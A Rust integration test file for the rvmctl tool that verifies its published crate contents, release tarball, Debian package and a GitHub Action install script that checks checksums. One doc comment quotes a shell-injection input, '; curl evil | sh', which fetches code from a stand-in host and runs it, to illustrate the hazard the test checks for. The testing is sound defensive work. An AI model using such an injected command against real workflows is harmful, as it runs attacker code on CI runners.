//! What ships: the published crate's contents, the release tarball and the
//! Debian package `scripts/dist.sh` makes, installed into a scratch root.

use std::path::{Path, PathBuf};
use std::process::Command;

fn repo() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// Runs `cmd`, returns stdout; panics with stderr on failure.
fn ok(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{cmd:?} failed ({}):\n{stdout}\n{stderr}", out.status);
    stdout.into_owned()
}

#[test]
fn the_crate_contains_sources_docs_and_license_only() {
    let list = ok(Command::new(env!("CARGO")).args(["package", "--list", "--allow-dirty"]).current_dir(repo()));
    let files: Vec<&str> = list.lines().collect();
    for needed in ["src/main.rs", "src/lib.rs", "build.rs", "Cargo.toml", "Cargo.lock", "README.md", "LICENSE"] {
        assert!(files.contains(&needed), "{needed} is not in the crate:\n{list}");
    }
    assert!(files.contains(&"docs/man/rvmctl.1"), "man pages ship with the crate:\n{list}");
    assert!(files.contains(&"completions/rvmctl.bash"), "completions ship with the crate:\n{list}");
    let stray: Vec<&&str> = files
        .iter()
        .filter(|f| {
            ["tests/", "fuzz/", ".ci/", "target/", "examples/", "benches/", "scripts/", ".github/", ".rvmctl/"]
                .iter()
                .any(|p| f.starts_with(p) || f.contains(&format!("/{p}")))
        })
        .collect();
    assert!(stray.is_empty(), "not for a published crate: {stray:?}");
}

/// `scripts/dist.sh` with the binary the test suite already built (no
/// compile), then the `.deb` unpacked into a scratch root as dpkg would
/// install it.
#[test]
fn dist_makes_a_tarball_and_a_deb_that_install_where_they_say() {
    let bin = env!("CARGO_BIN_EXE_rvmctl");
    let info: serde_json::Value =
        serde_json::from_str(&ok(Command::new(bin).args(["version", "-o", "json"]))).expect("version json");
    let (version, target) = (info["version"].as_str().expect("version"), info["target"].as_str().expect("target"));
    let out = tempfile::tempdir().expect("tempdir");
    ok(Command::new(repo().join("scripts/dist.sh"))
        .args(["--profile", "debug", "--bin", bin, "--target", target, "--out"])
        .arg(out.path()));

    // Checksums cover both artifacts and hold.
    let sums = std::fs::read_to_string(out.path().join("SHA256SUMS")).expect("SHA256SUMS");
    let tarball = format!("rvmctl-{version}-{target}.tar.gz");
    assert!(sums.lines().any(|l| l.ends_with(&format!("  {tarball}"))), "{sums}");
    let debs: Vec<PathBuf> = std::fs::read_dir(out.path())
        .expect("out")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "deb"))
        .collect();
    assert_eq!(debs.len(), 1, "{debs:?}");
    let deb = &debs[0];
    let deb_name = deb.file_name().expect("name").to_string_lossy().into_owned();
    assert!(sums.lines().any(|l| l.ends_with(&format!("  {deb_name}"))), "{sums}");
    ok(Command::new("sha256sum").args(["-c", "--strict", "SHA256SUMS"]).current_dir(out.path()));

    // The tarball: one folder with the binary, docs, man pages and completions.
    let listing = ok(Command::new("tar").arg("tzf").arg(out.path().join(&tarball)));
    let top = format!("rvmctl-{version}-{target}/");
    for f in ["rvmctl", "README.md", "LICENSE", "man/rvmctl.1", "completions/rvmctl.bash", "completions/_rvmctl"] {
        assert!(listing.lines().any(|l| l == format!("{top}{f}")), "{f} missing from {tarball}:\n{listing}");
    }

    // The control file names the package for this architecture.
    let field = |f: &str| ok(Command::new("dpkg-deb").args(["-f"]).arg(deb).arg(f)).trim().to_string();
    assert_eq!(field("Package"), "rvmctl");
    assert_eq!(field("Version"), version.replacen('-', "~", 1));
    let arch = field("Architecture");
    assert!(deb_name == format!("rvmctl_{}_{arch}.deb", version.replacen('-', "~", 1)), "{deb_name}");
    assert!(!field("Maintainer").is_empty() && !field("Description").is_empty());

    // Installed into a scratch root: the binary runs, the files are where Debian looks.
    let root = tempfile::tempdir().expect("root");
    ok(Command::new("dpkg").arg("-x").arg(deb).arg(root.path()));
    let installed = root.path().join("usr/bin/rvmctl");
    let line = ok(Command::new(&installed).arg("--version"));
    assert!(line.starts_with(&format!("rvmctl {version} (")), "{line}");
    for f in [
        "usr/share/man/man1/rvmctl.1.gz",
        "usr/share/man/man1/rvmctl-deploy.1.gz",
        "usr/share/bash-completion/completions/rvmctl",
        "usr/share/zsh/vendor-completions/_rvmctl",
        "usr/share/fish/vendor_completions.d/rvmctl.fish",
        "usr/share/doc/rvmctl/copyright",
    ] {
        assert!(root.path().join(f).is_file(), "{f} is not installed by {deb_name}");
    }
    let man = ok(Command::new("gzip").arg("-dc").arg(root.path().join("usr/share/man/man1/rvmctl.1.gz")));
    assert!(man.starts_with(".ie") && man.contains(".TH rvmctl 1"), "not a man page: {}", &man[..man.len().min(200)]);
    let bash = std::fs::read_to_string(root.path().join("usr/share/bash-completion/completions/rvmctl")).expect("bash");
    assert_eq!(bash, std::fs::read_to_string(repo().join("completions/rvmctl.bash")).expect("committed"));
}

/// The action's install step (`scripts/action-install.sh`) against a local
/// folder standing in for GitHub Releases (`file://<dir>/v<version>/…`).
struct FakeRelease {
    dir: tempfile::TempDir,
}

impl FakeRelease {
    /// A release `v<version>` whose tarball holds a stand-in rvmctl; `sums`
    /// writes SHA256SUMS from the real digest (or is handed it to corrupt).
    fn new(version: &str, target: &str, sums: impl FnOnce(&str) -> String) -> FakeRelease {
        let dir = tempfile::tempdir().expect("tempdir");
        let name = format!("rvmctl-{version}-{target}");
        let stage = dir.path().join("stage").join(&name);
        std::fs::create_dir_all(&stage).expect("stage");
        let bin = stage.join("rvmctl");
        std::fs::write(&bin, format!("#!/bin/sh\necho \"rvmctl {version} (fake 2026-01-01)\"\n")).expect("bin");
        std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
        let release = dir.path().join(format!("v{version}"));
        std::fs::create_dir_all(&release).expect("release");
        let tarball = format!("{name}.tar.gz");
        ok(Command::new("tar")
            .arg("czf")
            .arg(release.join(&tarball))
            .arg("-C")
            .arg(dir.path().join("stage"))
            .arg(&name));
        let line = ok(Command::new("sha256sum").arg(&tarball).current_dir(&release));
        std::fs::write(release.join("SHA256SUMS"), sums(&line)).expect("sums");
        FakeRelease { dir }
    }

    fn url(&self) -> String {
        format!("file://{}", self.dir.path().display())
    }
}

/// Runs the install script with only the variables given (plus PATH/HOME);
/// returns (exit code, stderr, install root).
fn action_install(vars: &[(&str, &str)]) -> (Option<i32>, String, tempfile::TempDir) {
    let root = tempfile::tempdir().expect("root");
    let mut cmd = Command::new("bash");
    cmd.arg(repo().join("scripts/action-install.sh"))
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", root.path())
        .env("RVMCTL_INSTALL_ROOT", root.path().join("tool"))
        .env("GITHUB_PATH", root.path().join("github_path"))
        .envs(vars.iter().copied());
    let out = cmd.output().expect("bash");
    (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned(), root)
}

const TARGET: &str = "x86_64-unknown-linux-musl";

#[test]
fn the_action_installs_the_release_of_its_ref_checksum_verified() {
    // `uses: myrvm/rvmctl@v0` (a moving tag): the version in the action's own Cargo.toml.
    let version = env!("CARGO_PKG_VERSION");
    let release = FakeRelease::new(version, TARGET, |line| format!("{line}0000  other-asset.tar.gz\n"));
    let (code, err, root) = action_install(&[
        ("ACTION_REF", "v0"),
        ("ACTION_PATH", repo().to_str().expect("utf-8")),
        ("RVMCTL_RELEASE_BASE_URL", &release.url()),
        ("RVMCTL_TARGET", TARGET),
    ]);
    assert_eq!(code, Some(0), "{err}");
    assert!(err.contains("checksum verified"), "{err}");
    let bin = root.path().join("tool/bin/rvmctl");
    let line = ok(&mut Command::new(&bin));
    assert!(line.starts_with(&format!("rvmctl {version} (")), "{line}");
    let path = std::fs::read_to_string(root.path().join("github_path")).expect("GITHUB_PATH written");
    assert_eq!(path.trim(), root.path().join("tool/bin").display().to_string());

    // An explicit `rvmctl-version` wins over the ref (and may carry a leading v).
    let other = FakeRelease::new("9.8.7", TARGET, str::to_string);
    let (code, err, root) = action_install(&[
        ("RVMCTL_VERSION", "v9.8.7"),
        ("ACTION_REF", "v0"),
        ("RVMCTL_RELEASE_BASE_URL", &other.url()),
        ("RVMCTL_TARGET", TARGET),
    ]);
    assert_eq!(code, Some(0), "{err}");
    assert!(ok(&mut Command::new(root.path().join("tool/bin/rvmctl"))).starts_with("rvmctl 9.8.7 "));
}

#[test]
fn the_action_refuses_a_download_whose_checksum_does_not_match() {
    let release = FakeRelease::new("1.2.3", TARGET, |line| {
        let (_, name) = line.split_once("  ").expect("sha256sum line");
        format!("{}  {name}", "0".repeat(64))
    });
    let (code, err, root) = action_install(&[
        ("ACTION_REF", "v1.2.3"),
        ("RVMCTL_RELEASE_BASE_URL", &release.url()),
        ("RVMCTL_TARGET", TARGET),
    ]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains(&format!("checksum mismatch for rvmctl-1.2.3-{TARGET}.tar.gz")), "{err}");
    assert!(err.contains(&"0".repeat(64)), "the message shows the expected digest: {err}");
    assert!(!root.path().join("tool/bin/rvmctl").exists(), "nothing unverified is installed");
    assert!(!root.path().join("github_path").exists());

    // A SHA256SUMS without the asset's line is no verification either.
    let unlisted = FakeRelease::new("1.2.3", TARGET, |_| String::new());
    let (code, err, _) = action_install(&[
        ("RVMCTL_VERSION", "1.2.3"),
        ("RVMCTL_RELEASE_BASE_URL", &unlisted.url()),
        ("RVMCTL_TARGET", TARGET),
    ]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("has no line for"), "{err}");
}

#[test]
fn without_a_release_the_action_builds_from_source() {
    let scratch = tempfile::tempdir().expect("dir");
    let empty = scratch.path().join("releases");
    std::fs::create_dir_all(&empty).expect("empty");
    // A stand-in cargo: records its arguments, "installs" into --root.
    let cargo = scratch.path().join("cargo");
    let log = scratch.path().join("cargo.log");
    std::fs::write(
        &cargo,
        format!(
            "#!/bin/sh\necho \"$*\" > '{}'\nwhile [ $# -gt 0 ]; do [ \"$1\" = --root ] && root=$2; shift; done\n\
             mkdir -p \"$root/bin\" && printf '#!/bin/sh\\necho rvmctl from-source\\n' > \"$root/bin/rvmctl\" && chmod +x \"$root/bin/rvmctl\"\n",
            log.display()
        ),
    )
    .expect("cargo");
    std::fs::set_permissions(&cargo, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    let action_path = repo().to_str().expect("utf-8");
    let url = format!("file://{}", empty.display());
    for vars in [
        // A version tag with no release (yet): 404.
        vec![("ACTION_REF", "v7.7.7"), ("RVMCTL_RELEASE_BASE_URL", url.as_str()), ("RVMCTL_TARGET", TARGET)],
        // A branch names no release at all: nothing is downloaded.
        vec![("ACTION_REF", "main"), ("RVMCTL_RELEASE_BASE_URL", "file:///nonexistent"), ("RVMCTL_TARGET", TARGET)],
    ] {
        let _ = std::fs::remove_file(&log);
        let mut vars = vars.clone();
        vars.extend([("ACTION_PATH", action_path), ("RVMCTL_CARGO", cargo.to_str().expect("utf-8"))]);
        let (code, err, root) = action_install(&vars);
        assert_eq!(code, Some(0), "{vars:?}: {err}");
        assert!(err.contains("building from source"), "{err}");
        let args = std::fs::read_to_string(&log).expect("cargo was run");
        assert!(args.starts_with(&format!("install --locked --path {action_path} --root ")), "{args}");
        assert_eq!(ok(&mut Command::new(root.path().join("tool/bin/rvmctl"))).trim(), "rvmctl from-source");
    }
}

/// GitHub's hardening guidance: an input spliced into `run:` text is a shell
/// injection (`args: "; curl evil | sh"`). Every expression reaches the
/// script through `env:`.
#[test]
fn no_expression_is_spliced_into_the_actions_scripts() {
    let text = std::fs::read_to_string(repo().join("action.yml")).expect("action.yml");
    let action: serde_json::Value = serde_saphyr::from_str(&text).expect("action.yml parses");
    let steps = action["runs"]["steps"].as_array().expect("runs.steps");
    assert_eq!(action["runs"]["using"], "composite");
    assert!(steps.iter().any(|s| s["name"] == "Install rvmctl"), "an install step");
    for step in steps {
        if let Some(run) = step["run"].as_str() {
            assert!(!run.contains("${{"), "step {:?} splices an expression into its script:\n{run}", step["name"]);
            assert_eq!(step["shell"], "bash", "a run step of a composite action names its shell");
        }
    }
    // The inputs the scripts read are declared.
    for input in ["args", "rvmctl-version", "config", "github-token"] {
        assert!(action["inputs"][input].is_object(), "input {input}");
    }
}

/// The release workflow builds what the action and the README download
/// (`make lint` also runs actionlint over it: scripts/lint-workflows.sh).
#[test]
fn the_release_workflow_publishes_what_the_action_downloads() {
    let text = std::fs::read_to_string(repo().join(".github/workflows/release.yml")).expect("release.yml");
    let wf: serde_json::Value = serde_saphyr::from_str(&text).expect("release.yml parses");
    let tags = wf["on"]["push"]["tags"].as_array().expect("on.push.tags");
    assert!(tags.iter().any(|t| t == "v*"), "runs on version tags: {tags:?}");
    let build = &wf["jobs"]["build"];
    let targets: Vec<&str> = build["strategy"]["matrix"]["include"]
        .as_array()
        .expect("matrix.include")
        .iter()
        .filter_map(|t| t["target"].as_str())
        .collect();
    // The targets the install script picks for X64 and ARM64 runners.
    let install = std::fs::read_to_string(repo().join("scripts/action-install.sh")).expect("install script");
    for t in ["x86_64-unknown-linux-musl", "aarch64-unknown-linux-musl"] {
        assert!(targets.contains(&t), "{t} not built: {targets:?}");
        assert!(install.contains(&format!("target={t}")), "the action does not pick {t}");
    }
    let steps = |job: &str| wf["jobs"][job]["steps"].as_array().cloned().unwrap_or_default();
    let runs = |job: &str| steps(job).iter().filter_map(|s| s["run"].as_str().map(str::to_string)).collect::<String>();
    assert!(runs("build").contains("scripts/dist.sh --profile release"), "packages with scripts/dist.sh");
    assert!(runs("release").contains("sha256sum") && runs("release").contains("SHA256SUMS"));
    let release = &wf["jobs"]["release"];
    assert_eq!(release["needs"], "build");
    assert_eq!(release["permissions"]["contents"], "write", "publishing needs contents: write");
    assert!(
        steps("release")
            .iter()
            .any(|s| s["uses"].as_str().is_some_and(|u| u.starts_with("softprops/action-gh-release@")))
    );
    for job in ["build", "release"] {
        for s in steps(job) {
            if let Some(run) = s["run"].as_str() {
                assert!(!run.contains("${{"), "{job}: an expression spliced into a script:\n{run}");
            }
            if let Some(uses) = s["uses"].as_str() {
                assert!(uses.contains("@v"), "{job}: {uses} is not pinned to a version");
            }
        }
    }
}
